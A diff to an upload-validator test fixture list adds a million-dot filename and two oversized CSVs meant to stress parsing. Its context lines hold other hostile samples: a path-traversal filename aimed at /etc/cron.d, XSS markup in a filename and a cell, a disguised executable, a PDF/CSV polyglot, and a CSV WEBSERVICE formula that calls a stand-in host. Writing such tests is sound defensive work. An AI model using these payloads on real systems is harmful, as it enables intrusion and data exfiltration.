@@ -30,6 +30,7 @@ export const HOSTILE_OTHERS: HostileFile[] = [
   file('name: a path', '../../../etc/cron.d/x.pdf', pdfBytes, null),
   file('name: markup', '"><img src=x onerror=alert(1)>.pdf', pdfBytes, null),
   file('name: a thousand letters', `${'a'.repeat(1000)}.pdf`, pdfBytes, null),
+  file('name: a million dots', `a${'.'.repeat(1_000_000)}b.pdf`, pdfBytes, null),
   file('empty', 'a.pdf', () => Buffer.alloc(0), 'empty'),
   file('a program named PDF', 'a.pdf', exeBytes, 'kind'),
   file(
@@ -85,6 +86,18 @@ export const HOSTILE_OTHERS: HostileFile[] = [
     'a.csv',
     text('a;b\n@WEBSERVICE("https://jahat.example");1\n'),
     'csvFormula',
+  ),
+  file(
+    'CSV: thousands of empty cells before a bracket',
+    'a.csv',
+    text(`nama\tjumlah (Rp)\n${`x${'\t'.repeat(60_000)}y\n`.repeat(20)}`),
+    null,
+  ),
+  file(
+    'CSV: thousands of signs before a bracket',
+    'a.csv',
+    text(`a,b\n${`${'-,'.repeat(30_000)}y(\n`.repeat(20)}`),
+    null,
   ),
   file('CSV: a PDF inside', 'a.csv', text('a;b\n%PDF-1.4;x\n'), 'polyglot'),
   file('CSV: markup in a cell', 'a.csv', text('a;b\n<script>alert(1)</script>;2\n'), null),
